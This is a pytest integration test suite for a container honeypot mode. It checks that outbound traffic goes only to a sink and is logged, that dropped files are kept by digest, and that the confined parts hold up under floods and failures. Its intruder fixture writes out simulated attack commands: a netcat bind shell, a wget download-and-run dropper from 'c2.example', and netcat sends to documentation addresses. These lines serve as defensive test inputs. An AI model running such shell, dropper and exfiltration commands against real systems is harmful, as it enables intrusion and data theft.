"""A honeypot on the real kernel: nothing leaves, everything is kept, nothing is left behind."""

from __future__ import annotations

import json
import os
import shutil
import signal
import socket
import subprocess
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from harness import confined
from harness.containers import unique
from harness.engine import SLOW, PrivateEngine
from jaula.features.honeypot import run_directory
from jaula.features.honeypot.sink import LIST_SIZE
from jaula.features.record import record_reader
from jaula.kernel.namespaces import open_namespace
from jaula.kernel.rtnetlink import Rtnetlink
from jaula.spec.asciicast import MAX_PARTS, PART_SIZE


def wait_for(condition: Callable[[], Any], seconds: float = 20.0 * SLOW) -> Any:
    deadline = time.monotonic() + seconds
    while not (value := condition()):
        assert time.monotonic() < deadline, "the condition is not met in time"
        time.sleep(0.05)
    return value


def free_port() -> int:
    with socket.create_server(("127.0.0.1", 0)) as server:
        port: int = server.getsockname()[1]
    return port


class Pot:
    """A running honeypot and the directory of its run."""

    def __init__(self, engine: PrivateEngine, name: str) -> None:
        self.engine, self.name = engine, name

    @property
    def directory(self) -> Path:
        found = [
            path
            for path in (self.engine.root / "lib" / "honeypots").iterdir()
            if path.name.startswith(f"{self.name}-")
        ]
        assert len(found) == 1
        return found[0]

    def sh(self, script: str) -> subprocess.CompletedProcess[str]:
        return self.engine.cli("jaula", "exec", self.name, "sh", "-c", script)

    def pid(self) -> int:
        document = self.engine.request("GET", f"/containers/{self.name}/json").json()
        pid: int = document["State"]["Pid"]
        return pid

    def processes(self) -> dict[str, int]:
        """Return supervisor, sink and recorder, by name: they have the lock open."""
        found = {}
        lock = self.directory / run_directory.LOCK
        for entry in Path("/proc").glob("[0-9]*"):
            try:
                comm = (entry / "comm").read_text().strip()
                if comm == "jaula-honeypot" and any(
                    os.path.samefile(fd, lock) for fd in (entry / "fd").iterdir() if fd.exists()
                ):
                    found[comm] = int(entry.name)
            except OSError:
                continue
        supervisor = found.get("jaula-honeypot", 0)
        for entry in Path("/proc").glob("[0-9]*/stat"):
            try:
                head, _, tail = entry.read_text().rpartition(") ")
            except OSError:
                continue
            if supervisor and int(tail.split()[1]) == supervisor:
                found[head.partition("(")[2]] = int(entry.parent.name)
        return found

    def stop(self) -> run_directory.Index:
        self.engine.cli("jaula", "stop", "-t", "0", self.name)
        return self.index()

    def index(self, seconds: float = 90.0 * SLOW) -> run_directory.Index:
        """Return the index of the run when it has ended."""
        import msgspec

        def ended() -> run_directory.Index | None:
            data = (self.directory / run_directory.INDEX).read_bytes()
            index = msgspec.json.decode(data, type=run_directory.Index)
            return index if index.ended else None

        index: run_directory.Index = wait_for(ended, seconds)
        return index

    def connections(self) -> list[dict[str, Any]]:
        lines = (self.directory / run_directory.CONNECTIONS).read_text().splitlines()
        return [json.loads(line) for line in lines]

    def files(self) -> list[dict[str, Any]]:
        lines = (self.directory / run_directory.FILE_LIST).read_text().splitlines()
        return [json.loads(line) for line in lines]


@contextmanager
def running(
    engine: PrivateEngine, image: str, *command: str, flags: tuple[str, ...] = ()
) -> Iterator[Pot]:
    pot = Pot(engine, unique("pot"))
    words = ("run", "-d", "--name", pot.name, "--profile", "honeypot", *flags, image)
    done = engine.cli("jaula", *words, *(command or ("sleep", "600")))
    try:
        assert done.returncode == 0, done.stderr + engine.log_tail()
        yield pot
    finally:
        engine.request("DELETE", f"/containers/{pot.name}?force=1&v=1")
        wait_for(lambda: not pot.processes())
        shutil.rmtree(pot.directory)


@pytest.fixture(scope="module")
def used(engine: PrivateEngine, busybox: str) -> Iterator[Pot]:
    """Yield a honeypot whose intruder has done everything that the tests look for."""
    port = free_port()
    flags = ("-p", f"127.0.0.1:{port}:23", "-t")
    script = "while true; do nc -l -p 23 -e sh; done"
    with running(engine, busybox, "sh", "-c", script, flags=flags) as pot:
        wait_for(lambda: pot.sh("netstat -tln | grep :23").returncode == 0)
        with socket.create_connection(("127.0.0.1", port), timeout=10) as client:
            client.sendall(b"echo marker-$((6*7))\n")
            data = b""
            while b"marker-42" not in data:
                data += client.recv(4096)
            client.sendall(b"exit\n")
        for line in (
            "wget -q -O /tmp/dropper http://c2.example/bins.sh && chmod +x /tmp/dropper",
            "/tmp/dropper && rm /tmp/dropper",
            "printf stolen > /root/loot; mv /root/loot /root/.loot",
            "printf 'hello c2' | nc -w 2 203.0.113.77 4444",
            "wget -q -O /dev/null http://[2001:db8::77]/",
            "wget -q -O /dev/null --no-check-certificate https://tls.example/x || true",
            "nslookup six.example 192.0.2.53 || true",
            "printf 'EHLO me\\r\\nQUIT\\r\\n' | nc -w 2 198.51.100.25 25",
        ):
            pot.sh(line)
        pot.stop()
        yield pot


def test_a_connection_to_any_address_is_answered_and_listed(used: Pot) -> None:
    lines = used.connections()
    by = {line["destination"]: line for line in lines if line["direction"] == "out"}
    assert by["203.0.113.77:4444"]["data"] == {"text": "hello c2"}
    assert by["[2001:db8::77]:80"]["service"] == "http"
    mail = by["198.51.100.25:25"]
    assert mail["service"] == "smtp"
    assert "EHLO me" in mail["data"]["text"]
    download = next(line for line in lines if line.get("name") == "c2.example")
    assert "GET /bins.sh" in download["data"]["text"]
    tls = next(line for line in lines if line.get("service") == "tls")
    assert tls["server_name"] == "tls.example"
    assert "GET /x" in tls["decrypted"]["text"]


def test_a_query_to_any_server_is_answered_and_listed(used: Pot) -> None:
    queries = {line.get("query") for line in used.connections() if line["protocol"] == "udp"}
    assert {"c2.example", "tls.example", "six.example"} <= queries
    asked = {line["destination"] for line in used.connections() if line["protocol"] == "udp"}
    assert "192.0.2.53:53" in asked


def test_a_file_that_was_deleted_or_renamed_is_kept_by_digest(used: Pot) -> None:
    import hashlib

    kept = {line["path"]: line for line in used.files()}
    renamed = "/root/loot" if "/root/loot" in kept else "/root/.loot"
    for path, content in (("/tmp/dropper", b"#!/bin/sh\nexit 0\n"), (renamed, b"stolen")):
        digest = hashlib.sha256(content).hexdigest()
        assert kept[path]["sha256"] == digest
        assert (kept[path]["uid"], kept[path]["size"]) == (0, len(content))
        sample = used.directory / run_directory.FILES / digest
        assert sample.read_bytes() == content
        assert sample.stat().st_mode & 0o7777 == 0o400
        assert sample.stat().st_uid == 0


def test_the_dialogue_of_a_published_port_is_a_session(used: Pot) -> None:
    index = used.index()
    assert "in-0001.cast" in index.sessions
    head, *lines = (used.directory / "sessions" / "in-0001.cast").read_text().splitlines()
    assert json.loads(head)["version"] == 2
    events = [json.loads(line) for line in lines]
    assert "echo marker-" in "".join(text for _, code, text in events if code == "i")
    assert "marker-42" in "".join(text for _, code, text in events if code == "o")
    line = next(line for line in used.connections() if line["direction"] == "in")
    assert line["session"] == "in-0001"
    assert line["source"].startswith("127.0.0.1:")


def test_commands_of_exec_are_sessions(used: Pot) -> None:
    sessions = used.index().sessions
    assert "main.cast" in sessions
    assert len([name for name in sessions if name.startswith("exec-")]) >= 8


def test_the_record_of_system_calls_is_intact_and_has_the_programs(used: Pot) -> None:
    index = used.index()
    record = record_reader.read(str(used.directory / run_directory.RECORD))
    assert not record.errors
    assert record.head.hash == index.record_head
    assert record.end is not None
    assert record.end.reason == "container exited"
    executed = {entry.kind for entry in record.entries.values()}
    assert {"exec", "file", "connect"} <= executed


def test_the_directory_is_private(used: Pot) -> None:
    assert used.directory.stat().st_mode & 0o7777 == 0o700
    assert used.directory.parent.stat().st_mode & 0o7777 == 0o700


def test_show_prints_the_run(used: Pot) -> None:
    done = used.engine.cli("jaula", "record", "show", used.name)
    assert done.returncode == 0, done.stderr
    for text in ("203.0.113.77:4444", "c2.example", "loot", "in-0001.cast"):
        assert text in done.stdout
    document = used.engine.cli("jaula", "record", "show", "--format", "json", str(used.directory))
    assert json.loads(document.stdout)["container"]["name"] == used.name


def _host_address() -> str:
    """Return an address of the host that is not loopback; a UDP socket tells it, if any."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.connect(("192.0.2.1", 9))
        address: str = sock.getsockname()[0]
    return address


def test_no_packet_reaches_a_server_of_the_host(engine: PrivateEngine, busybox: str) -> None:
    seen: list[Any] = []
    with socket.create_server(("0.0.0.0", 0)) as server:
        server.settimeout(0.2)
        port = server.getsockname()[1]
        done = threading.Event()

        def accept() -> None:
            while not done.is_set():
                try:
                    seen.append(server.accept()[1])
                except TimeoutError:
                    continue

        thread = threading.Thread(target=accept)
        thread.start()
        try:
            host = _host_address()
            socket.create_connection((host, port)).close()  # the server works
            wait_for(lambda: seen)
            seen.clear()
            with running(engine, busybox) as pot:
                for address in (host, "172.17.0.1", "10.199.0.1"):
                    pot.sh(f"printf out | nc -w 2 {address} {port}")
                wait_for(lambda: len(pot.connections()) >= 3)
                destinations = {line["destination"] for line in pot.connections()}
                assert f"{host}:{port}" in destinations
        finally:
            done.set()
            thread.join()
    assert not seen


def _links(pid: int) -> set[str]:
    netns = open_namespace(pid, "net")
    try:
        with Rtnetlink(netns) as netlink:
            return {link.name for link in netlink.links()}
    finally:
        os.close(netns)


def test_the_only_link_leads_to_a_sink_without_another_link(
    engine: PrivateEngine, busybox: str
) -> None:
    with running(engine, busybox) as pot:
        assert {"lo", "eth0"} == {n for n in _links(pot.pid()) if n in ("lo", "eth0")}
        sink = pot.processes()["jaula-sink"]
        assert "sink0" in _links(sink)
        assert not {n for n in _links(sink) if n.startswith(("eth", "veth", "br", "en", "wl"))}


def test_the_sink_has_no_rights(engine: PrivateEngine, busybox: str) -> None:
    with running(engine, busybox) as pot:
        pid = pot.processes()["jaula-sink"]
        confined.check_rights(pid)
        limits = confined.limits(pid)
        for name, limit in (
            ("Max processes", 0),
            ("Max open files", 1024),
            ("Max core file size", 0),
            ("Max file size", 2 * LIST_SIZE),
            ("Max address space", 1 << 30),
        ):
            assert limits[name] == (str(limit),) * 2, name
        (root,) = [
            line.split(" ") for line in Path(f"/proc/{pid}/mountinfo").read_text().splitlines()
        ]
        assert root[4] == "/"
        assert {"nosuid", "nodev", "noexec"} <= set(root[5].split(","))
        # Of mounts that it has left: the kernel's names are those in them.
        held = [os.path.basename(name) for name in confined.descriptors(pid)]
        files = [name for name in held if name not in ("socket", "anon_inode")]
        assert sorted(files) == sorted(["null"] * 3 + [run_directory.CONNECTIONS])
        assert os.listdir(f"/proc/{pid}/root") == []
        for kind in ("net", "mnt", "pid", "ipc", "uts"):
            own = os.readlink(f"/proc/self/ns/{kind}")
            assert os.readlink(f"/proc/{pid}/ns/{kind}") != own


def test_a_sink_that_is_stopped_ends_with_its_supervisor(
    engine: PrivateEngine, busybox: str
) -> None:
    with running(engine, busybox) as pot:
        processes = pot.processes()
        os.kill(processes["jaula-sink"], signal.SIGSTOP)
        os.kill(processes["jaula-honeypot"], signal.SIGKILL)
        wait_for(lambda: not Path(f"/proc/{processes['jaula-sink']}").exists())


@pytest.mark.parametrize("victim", ["jaula-honeypot", "jaula-sink", "jaula-recorder"])
def test_a_part_that_dies_takes_the_container_with_it(
    engine: PrivateEngine, busybox: str, victim: str
) -> None:
    with running(engine, busybox) as pot:
        processes = pot.processes()
        assert set(processes) == {"jaula-honeypot", "jaula-sink", "jaula-recorder"}
        os.kill(processes[victim], signal.SIGKILL)
        wait_for(
            lambda: (
                not engine.request("GET", f"/containers/{pot.name}/json").json()["State"]["Running"]
            )
        )
        for pid in processes.values():
            wait_for(lambda pid=pid: not os.path.exists(f"/proc/{pid}"))
        if victim != "jaula-honeypot":
            assert pot.index().reason == "a part of the honeypot has died"


@pytest.mark.parametrize("clients", [30, pytest.param(150, marks=pytest.mark.slow)])
def test_a_flood_of_connections_and_datagrams_is_bounded(
    engine: PrivateEngine, busybox: str, clients: int
) -> None:
    with running(engine, busybox) as pot:
        pot.sh(
            f"for i in $(seq 1 {clients}); do "
            "(nc -w 3 203.0.113.1 9000 < /dev/zero >/dev/null 2>&1 &) ; done; sleep 2"
        )
        assert pot.sh("printf alive | nc -w 2 203.0.113.2 7").returncode == 0
        wait_for(lambda: any(x["destination"] == "203.0.113.2:7" for x in pot.connections()))
        sink = pot.processes()["jaula-sink"]
        resident = int(Path(f"/proc/{sink}/statm").read_text().split()[1]) * 4096
        assert resident < 256 << 20
        index = pot.stop()
        assert index.connections.outgoing >= clients * 2 // 3
        assert (pot.directory / run_directory.CONNECTIONS).stat().st_size < 80 << 20


def test_a_full_layer_ends_the_container(engine: PrivateEngine, busybox: str) -> None:
    script = "for i in 1 2 3 4 5 6; do dd if=/dev/zero of=/f$i bs=1M count=120; done; sleep 600"
    with running(engine, busybox, "sh", "-c", script) as pot:
        index = pot.index()
        assert index.reason == "the writable layer has its full size"


def test_a_port_in_use_is_an_error_and_leaves_nothing(engine: PrivateEngine, busybox: str) -> None:
    name = unique("pot")
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        words = ("run", "-d", "--name", name, "--profile", "honeypot")
        done = engine.cli("jaula", *words, "-p", f"127.0.0.1:{port}:23", busybox, "sleep", "9")
    assert done.returncode == 125
    assert f"port {port} of 127.0.0.1" in done.stderr
    engine.request("DELETE", f"/containers/{name}?force=1")
    runs = engine.root / "lib" / "honeypots"
    assert not [path for path in runs.iterdir() if path.name.startswith(f"{name}-")]


def test_a_container_that_is_removed_at_its_exit_leaves_a_complete_run(
    engine: PrivateEngine, busybox: str
) -> None:
    name = unique("pot")
    script = "printf last > /root/last; exec sleep 0.2"
    words = ("run", "--rm", "--name", name, "--profile", "honeypot", busybox, "sh", "-c", script)
    done = engine.cli("jaula", *words)
    assert done.returncode == 0, done.stderr
    pot = Pot(engine, name)
    try:
        index = pot.index()
        assert [sample.paths for sample in index.samples] == [("/root/last",)]
        wait_for(lambda: not pot.processes())
    finally:
        shutil.rmtree(pot.directory)


def test_verify_proves_that_the_sink_is_the_only_network(
    engine: PrivateEngine, busybox: str
) -> None:
    with running(engine, busybox) as pot:
        done = engine.cli("jaula", "verify", "--format", "json", pot.name)
        assert done.returncode == 0, done.stdout
        assert '"sink"' in done.stdout
        sink = pot.processes()["jaula-sink"]
        subprocess.run(
            ("nsenter", f"--net=/proc/{sink}/ns/net", "ip", "link", "add", "way-out", "type",
             "veth", "peer", "name", "way-out2"),
            check=True,
        )  # fmt: skip
        done = engine.cli("jaula", "verify", pot.name)
        assert done.returncode == 1
        row = next(line for line in done.stdout.splitlines() if " sink " in line)
        assert row.rstrip().endswith("FAILS")


def test_verify_reads_the_sink_of_its_own_honeypot(engine: PrivateEngine, busybox: str) -> None:
    """The links of all honeypots have the same names and indexes."""
    with running(engine, busybox) as first, running(engine, busybox) as second:
        for leaking, sound in ((first, second), (second, first)):
            words = ("nsenter", f"--net=/proc/{leaking.processes()['jaula-sink']}/ns/net", "ip",
                     "link")  # fmt: skip
            way = ("add", "way-out", "type", "veth", "peer", "name", "way-out2")
            subprocess.run((*words, *way), check=True)
            verdicts = []
            for pot in (leaking, sound):
                done = engine.cli("jaula", "verify", pot.name)
                row = next(line for line in done.stdout.splitlines() if " sink " in line)
                verdicts.append((done.returncode, row.split()[-1]))
            assert verdicts == [(1, "FAILS"), (0, "holds")]
            subprocess.run((*words, "del", "way-out"), check=True)


@pytest.mark.parametrize(
    "script",
    [
        pytest.param(
            "name=$(printf '%0200d' 0); for i in $(seq 30); do mkdir $name; cd $name; done",
            id="a path that is too long",
        ),
        pytest.param(
            "mkdir /d; cd /d; i=0; while :; do i=$((i+1)); for j in 0 1 2 3 4; do : > $i$j; done; "
            "done",
            id="a flood of empty files",
            marks=pytest.mark.slow,
        ),
    ],
)
def test_a_layer_that_hides_its_size_ends_the_container(
    engine: PrivateEngine, busybox: str, script: str
) -> None:
    command = f"cd /root; {script}; sleep 600"
    with running(engine, busybox, "sh", "-c", command) as pot:
        assert pot.index(240.0 * SLOW).reason == "the writable layer has its full size"


def test_a_large_transfer_through_a_published_port_is_complete(
    engine: PrivateEngine, busybox: str
) -> None:
    port, size = free_port(), 24 << 20
    script = f"while true; do dd if=/dev/zero bs=1M count={size >> 20} | nc -l -p 80; done"
    flags = ("-p", f"127.0.0.1:{port}:80")
    with running(engine, busybox, "sh", "-c", script, flags=flags) as pot:
        wait_for(lambda: pot.sh("netstat -tln | grep :80").returncode == 0)
        received = 0
        with socket.create_connection(("127.0.0.1", port), timeout=20) as client:
            while data := client.recv(1 << 16):
                received += len(data)
        assert received == size
        line = wait_for(lambda: next((x for x in pot.connections() if x["sent"] == size), None))
        parts = sorted(path.name for path in (pot.directory / "sessions").glob("in-0001*"))
        assert line["session"] == "in-0001"
        assert len(parts) == MAX_PARTS  # a zero byte has six characters there
        sizes = [(pot.directory / "sessions" / name).stat().st_size for name in parts]
        assert all(0 < size < PART_SIZE + (1 << 20) for size in sizes)
